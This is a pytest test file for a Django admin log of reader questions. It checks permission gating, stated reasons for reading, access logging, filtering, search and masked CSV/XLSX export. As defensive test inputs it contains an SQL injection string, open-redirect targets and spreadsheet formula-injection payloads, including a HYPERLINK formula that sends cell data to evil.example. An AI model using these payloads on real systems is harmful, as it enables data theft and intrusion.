"""The log on the desk: words only for those who may read them, by no way round."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from apps.documents.models import Party
from apps.querylog.access import access_trim
from apps.querylog.admin import paging
from apps.querylog.counting import days_roll_up
from apps.querylog.models import AccessEntry, AnswerFeedback, Conversation, SentenceReport, Turn
from apps.rules.backtesting import FORMAT
from apps.rules.models import Backtest
from tests.querylog.reading import REASON, staff

pytestmark = pytest.mark.django_db
WORDS = "Windpark in Hintertupfing?"


@pytest.fixture
def turn() -> Turn:
    conversation = Conversation.objects.create(owner="x", session_day="y")
    signals = {"coverage_signals": {"question_aspects_missing": ["Hintertupfing"]}}
    return Turn.objects.create(conversation=conversation, number=1, question=WORDS, signals=signals)


def pages(turn: Turn) -> list[str]:
    return [reverse("admin:querylog_turn_changelist"), reverse("admin:querylog_turn_change", args=[turn.pk])]


def test_who_may_only_see_outcomes_sees_no_word_of_the_reader(turn):
    client = staff("view_turn")
    for page in pages(turn):
        response = client.get(page)
        assert response.status_code == 200
        assert "Hintertupfing" not in response.text


def test_who_may_read_words_sees_them(turn):
    client = staff("view_turn", "view_question")
    assert all(WORDS in client.get(page).text for page in pages(turn))


def test_the_log_is_closed_without_permission(turn):
    client = staff()
    assert [client.get(page).status_code for page in pages(turn)] == [403, 403]


@pytest.mark.parametrize("lookup", ["question__startswith", "question__regex", "query__icontains", "shown__contains"])
def test_words_cannot_be_guessed_by_filters_in_the_address(turn, lookup):
    page = reverse("admin:querylog_turn_changelist")
    assert staff("view_turn").get(page, {lookup: "W"}).status_code == 400


def address(name: str, *arguments: object) -> str:
    return reverse(f"admin:querylog_turn_{name}", args=arguments)


def listed(client: Client, **filters: str) -> int:
    response = client.get(address("changelist"), filters)
    assert response.status_code == 200
    return response.text.partition("<tbody")[2].count("/change/")


def moved(turn: Turn, days: float) -> Turn:
    Turn.objects.filter(pk=turn.pk).update(created_at=timezone.now() - timedelta(days=days))
    return turn


def another(turn: Turn, **fields: object) -> Turn:
    number = Turn.objects.count() + 1
    return Turn.objects.create(conversation=turn.conversation, number=number, **{"question": "Andere?", **fields})


# --- Why somebody reads ---


def test_words_are_hidden_until_a_reason_is_given(turn):
    client = staff("view_turn", "view_question", reason="")
    for page in pages(turn):
        text = client.get(page).text
        assert "Hintertupfing" not in text
        assert "Why do you want to read them?" in text
    assert not AccessEntry.objects.exists()


@pytest.mark.parametrize("reason", ["", "   ", "abc", "\x00\x00\x00\x00\x00\x00"])
def test_what_is_no_reason_opens_nothing(turn, reason):
    client = staff("view_turn", "view_question", reason="")
    response = client.post(address("reason"), {"reason": reason}, follow=True)
    assert "Say in a few words why you read" in response.text
    assert "Hintertupfing" not in response.text


def test_every_page_with_words_leaves_a_line_without_words(turn):
    client = staff("view_turn", "view_question")
    for page in pages(turn):
        client.get(page)
    lines = list(AccessEntry.objects.order_by("pk").values_list("what", "count", "reason", "name"))
    assert lines == [("list", 1, REASON, "someone"), ("turn", 1, REASON, "someone")]
    assert all(entry.turns == [turn.uuid] for entry in AccessEntry.objects.all())
    stored = str(list(AccessEntry.objects.values()))
    assert "Hintertupfing" not in stored


def test_pages_without_words_leave_no_line(turn):
    client = staff("view_turn")
    for page in pages(turn):
        client.get(page)
    assert not AccessEntry.objects.exists()


def test_words_are_hidden_again_after_an_hour_and_on_request(turn):
    client = staff("view_turn", "view_question")
    session = client.session
    session["log_reading"] = {"reason": REASON, "until": (timezone.now() - timedelta(seconds=1)).isoformat()}
    session.save()
    assert "Hintertupfing" not in client.get(pages(turn)[1]).text
    client.post(address("reason"), {"reason": REASON})
    assert "Hintertupfing" in client.get(pages(turn)[1]).text
    client.post(address("reason"), {"close": "1"})
    assert "Hintertupfing" not in client.get(pages(turn)[1]).text


def test_a_reason_without_the_permission_opens_nothing(turn):
    client = staff("view_turn")
    assert client.post(address("reason"), {"reason": REASON}).status_code == 403
    session = client.session
    session["log_reading"] = {"reason": REASON, "until": (timezone.now() + timedelta(hours=1)).isoformat()}
    session.save()
    assert "Hintertupfing" not in client.get(pages(turn)[0]).text


@pytest.mark.parametrize("elsewhere", ["https://evil.example/", "//evil.example", "javascript:alert(1)"])
def test_after_the_reason_nobody_is_led_away(turn, elsewhere):
    response = staff("view_turn", "view_question").post(address("reason"), {"reason": REASON, "next": elsewhere})
    assert response["Location"] == address("changelist")


def test_what_is_read_is_kept_by_no_browser(turn):
    client = staff("view_turn", "view_question")
    assert all("no-store" in client.get(page)["Cache-Control"] for page in pages(turn))


def test_who_read_what_is_forgotten_after_a_year(turn):
    staff("view_turn", "view_question").get(pages(turn)[1])
    entry = AccessEntry.objects.get()
    AccessEntry.objects.update(created_at=timezone.now() - timedelta(days=364))
    assert access_trim() == 0
    AccessEntry.objects.update(created_at=timezone.now() - timedelta(days=366))
    assert access_trim() == 1
    assert not AccessEntry.objects.filter(pk=entry.pk).exists()


def test_the_access_log_is_shown_to_those_who_watch_it_and_changed_by_nobody(turn):
    staff("view_turn", "view_question").get(pages(turn)[1])
    entry = AccessEntry.objects.get()
    page = reverse("admin:querylog_accessentry_changelist")
    assert staff("view_turn", name="other").get(page).status_code == 403
    watcher = staff("view_accessentry", name="watcher")
    assert REASON in watcher.get(page).text
    assert watcher.post(reverse("admin:querylog_accessentry_delete", args=[entry.pk])).status_code == 403
    assert watcher.get(reverse("admin:querylog_accessentry_add")).status_code == 403


# --- The list ---


def test_the_list_holds_seven_days_unless_asked_for_more(turn):
    for days in (0, 5, 9, 40):
        moved(another(turn), days)
    client = staff("view_turn")
    assert listed(client) == 3
    assert [listed(client, days=days) for days in ("1", "28", "all", "nonsense")] == [2, 4, 5, 3]


def test_the_list_can_be_narrowed_by_everything_that_the_desk_asks(turn):
    another(turn, parties=["auen"], rule_uid="briefwahl", confidence=0.9, decision="REWRITE", outcome="answered")
    rated = another(turn, kind="small_talk", state="done", finished_at=timezone.now(), outcome="chatted")
    AnswerFeedback.objects.create(turn=rated, verdict="not_useful", reasons=["wrong"], comment="Falsch")
    Party.objects.create(slug="auen", name="Auenpartei", short_name="Auen")
    client = staff("view_turn")
    narrowed = {
        ("party", "auen"): 1, ("party", "any"): 1, ("party", "none"): 2, ("party", "sonstwer"): 0,
        ("winner", "any"): 1, ("winner", "none"): 2, ("kind__exact", "small_talk"): 1,
        ("decision__exact", "REWRITE"): 1,
        ("outcome__exact", "chatted"): 1, ("said", "not_useful"): 1, ("said", "useful"): 0, ("said", "reason-wrong"): 1,
        ("said", "comment"): 1, ("said", "sentence"): 0, ("said", "any"): 1, ("said", "none"): 2, ("band", "4"): 1,
        ("state__exact", "done"): 1, ("language__exact", "de"): 3, ("said", "reason-"): 0,
    }  # fmt: skip
    assert {pair: listed(client, **{pair[0]: pair[1]}) for pair in narrowed} == narrowed


def test_the_list_counts_no_further_than_it_shows(turn, monkeypatch):
    monkeypatch.setattr(paging, "MOST_LISTED", 3)
    for _ in range(6):
        another(turn)
    with CaptureQueriesContext(connection) as caught:
        listed(staff("view_turn"))
    counting = [query["sql"] for query in caught if "COUNT(" in query["sql"] and "querylog_turn" in query["sql"]]
    assert counting
    assert all("LIMIT 4" in sql for sql in counting)


def test_a_long_list_takes_as_many_queries_as_a_short_one(turn):
    client = staff("view_turn", "view_question")
    client.get(address("changelist"))

    def queries() -> int:
        with CaptureQueriesContext(connection) as caught:
            client.get(address("changelist"))
        return len(caught)

    few = queries()
    for _ in range(40):
        rated = another(turn, state="done", finished_at=timezone.now(), outcome="answered")
        AnswerFeedback.objects.create(turn=rated, verdict="useful")
    assert queries() == few


@pytest.mark.parametrize("lookup", ["feedback__comment__contains", "conversation__owner"])
def test_the_address_asks_for_no_words_and_no_owner(turn, lookup):
    response = staff("view_turn", "view_question").get(address("changelist"), {lookup: "Hintertupfing"})
    assert response.status_code == 400


# --- The search ---


def search(client: Client, words: str, days: str = "7") -> str:
    return client.post(address("search"), {"words": words, "days": days}).text


def test_words_are_searched_by_post_and_noted(turn):
    moved(another(turn, question="Windpark anderswo?"), 9)
    client = staff("view_turn", "view_question")
    assert WORDS in search(client, "windpark HINTERTUPFING")
    assert "anderswo" not in search(client, "windpark")
    assert "anderswo" in search(client, "windpark", "28")
    assert "No question of this period has all of these words." in search(client, "fehlt")
    assert list(AccessEntry.objects.order_by("pk").values_list("what", "count"))[:3] == [
        ("search", 1),
        ("search", 1),
        ("search", 2),
    ]


def test_the_address_of_the_search_takes_no_words(turn):
    text = staff("view_turn", "view_question").get(address("search"), {"words": "windpark", "days": "7"}).text
    assert WORDS not in text


@pytest.mark.parametrize("words", ["%", "_", "'; DROP TABLE querylog_turn; --", "\x00", "a" * 5000])
def test_odd_words_find_nothing_and_break_nothing(turn, words):
    response = staff("view_turn", "view_question").post(address("search"), {"words": words, "days": "7"})
    assert response.status_code == 200
    assert WORDS not in response.text


def test_nobody_searches_without_permission_or_reason(turn):
    assert staff("view_turn").post(address("search"), {"words": "wind", "days": "7"}).status_code == 403
    unsaid = staff("view_turn", "view_question", name="unsaid", reason="")
    assert WORDS not in search(unsaid, "windpark")


# --- The export ---

FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Quelle")', "\t=1+1", "-2+3", "@SUM(A1)", "+49", "\r=1", "＝1")


def export(client: Client, form: str = "csv", query: str = "", reason: str = "For the weekly report"):
    return client.post(address("export") + query, {"format": form, "reason": reason})


def cells(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_an_export_is_masked_named_and_noted(turn):
    response = export(staff("view_turn", "view_question", "export_log"))
    rows = cells(response)
    assert rows[0][0].startswith("# ")
    assert rows[1][-1] == "question"
    assert rows[2][-1] == WORDS
    entry = AccessEntry.objects.get(what="export")
    assert (entry.count, entry.reason, entry.turns) == (1, "For the weekly report", [turn.uuid])
    assert "no-store" in response["Cache-Control"]


def test_who_may_not_read_words_exports_none(turn):
    response = export(staff("view_turn", "export_log"))
    assert "Hintertupfing" not in response.text
    assert "question" not in cells(response)[1]


def test_the_export_is_what_the_list_was_narrowed_to(turn):
    another(turn, question="Auen?", parties=["auen"])
    moved(another(turn, question="Alt?", parties=["auen"]), 20)
    client = staff("view_turn", "view_question", "export_log")
    assert [row[-1] for row in cells(export(client, query="?party=auen&p=9"))[2:]] == ["Auen?"]
    assert len(cells(export(client, query="?party=auen&days=28"))[2:]) == 2


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_file_is_a_formula(turn, formula):
    another(turn, question=formula)
    rows = cells(export(staff("view_turn", "view_question", "export_log")))
    assert not any(cell[:1] in set("=+-@\t\r＝") for row in rows for cell in row)


@pytest.mark.parametrize("formula", [*FORMULAS, "-5 Grad im Februar?"])
def test_every_cell_of_a_workbook_is_text(turn, formula):
    another(turn, question=formula)
    response = export(staff("view_turn", "view_question", "export_log"), "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in values} == {"s"}
    assert not any(str(cell.value)[:1] in set("=+-@\t\r＝") for cell in values)
    assert any(formula.strip() in str(cell.value) for cell in values)


def test_nothing_is_exported_without_permission_or_reason(turn):
    assert export(staff("view_turn", "view_question")).status_code == 403
    client = staff("view_turn", "export_log", name="other")
    response = export(client, reason="")
    assert response["Content-Type"].startswith("text/html")
    assert not AccessEntry.objects.filter(what="export").exists()
    assert client.get(address("export")).status_code == 200


# --- What readers said ---


def test_feedback_stands_beside_the_turn_and_is_looked_at(turn):
    Turn.objects.filter(pk=turn.pk).update(state="done", finished_at=timezone.now(), outcome="answered")
    AnswerFeedback.objects.create(
        turn=turn, verdict="not_useful", reasons=["wrong"], comment="Stimmt in Hintertupfing nicht"
    )
    SentenceReport.objects.create(turn=turn, place=0, sentence="Hintertupfing hat Wind.")
    client = staff("view_turn", "change_answerfeedback")
    text = client.get(address("change", turn.pk)).text
    assert "something in it is wrong" in text
    assert "Hintertupfing" not in text
    client.post(address("looked", turn.pk))
    assert AnswerFeedback.objects.get().looked_by.username == "someone"
    assert SentenceReport.objects.get().looked_at is not None
    assert "I have looked at it" not in client.get(address("change", turn.pk)).text
    words = staff("view_turn", "view_question", name="reader").get(address("change", turn.pk)).text
    assert "Stimmt in Hintertupfing nicht" in words
    assert "Hintertupfing hat Wind." in words


def test_nobody_looks_without_permission_or_at_nothing(turn):
    assert staff("view_turn").post(address("looked", turn.pk)).status_code == 403
    client = staff("view_turn", "change_answerfeedback", name="other")
    assert client.post(address("looked", turn.pk)).status_code == 404
    assert client.post(address("looked", 999_999)).status_code == 404
    assert client.get(address("looked", turn.pk)).status_code == 405


@pytest.mark.parametrize("model", ["answerfeedback", "sentencereport", "sourcereport"])
def test_the_lists_of_feedback_are_for_those_who_may_see_them(turn, model):
    page = reverse(f"admin:querylog_{model}_changelist")
    assert staff("view_turn").get(page).status_code == 403
    assert staff(f"view_{model}", name="other").get(page).status_code == 200


# --- Who is asked about ---


def test_the_page_of_mentions_tells_shares_and_a_finding(turn):
    Party.objects.create(slug="auen", name="Auenpartei", short_name="Auenpartei")
    for days in (1, 2, 9):
        conversation = Conversation.objects.create(owner="x", session_day=f"reader {days}")
        moved(
            Turn.objects.create(
                conversation=conversation, number=1, question="?!", parties=["auen"], people=["Ada Fernrohr"]
            ),
            days,
        )
    moved(another(turn), 1)
    days_roll_up()
    client = staff("view_turn")
    text = client.get(address("mentions")).text
    assert "Auenpartei is asked about most: by 67 % of readers." in text
    assert "Ada Fernrohr" in text
    rows = cells(client.get(address("mentions"), {"format": "csv"}))
    assert rows[1][:4] == ["party", "Auenpartei", "2", "1"]
    assert staff(name="nobody").get(address("mentions")).status_code == 403


def test_the_page_of_mentions_is_honest_when_nothing_was_asked(db):
    text = staff("view_turn").get(address("mentions")).text
    assert "No party was named in the last seven whole days." in text


# --- Other desks ---


def test_who_reads_questions_in_a_backtest_is_noted(turn):
    Turn.objects.filter(pk=turn.pk).update(state="done", finished_at=timezone.now())
    case = [str(turn.uuid), "fires", "", "postal", "", "exact"]
    result = {"format": FORMAT, "questions": 1, "answered": [0, 1], "rules": {"postal": [0, 1]}, "cases": [case]}
    backtest = Backtest.objects.create(origin="log", state="done", result=result, finished_at=timezone.now())
    page = reverse("admin:rules_backtest_change", args=[backtest.pk])
    assert "Hintertupfing" not in staff("view_backtest", name="editor").get(page).text
    assert not AccessEntry.objects.exists()
    assert "Hintertupfing" in staff("view_backtest", "view_question", name="reader").get(page).text
    entry = AccessEntry.objects.get()
    assert (entry.name, entry.turns, entry.reason) == ("reader", [turn.uuid], f"Backtest {backtest.pk}")
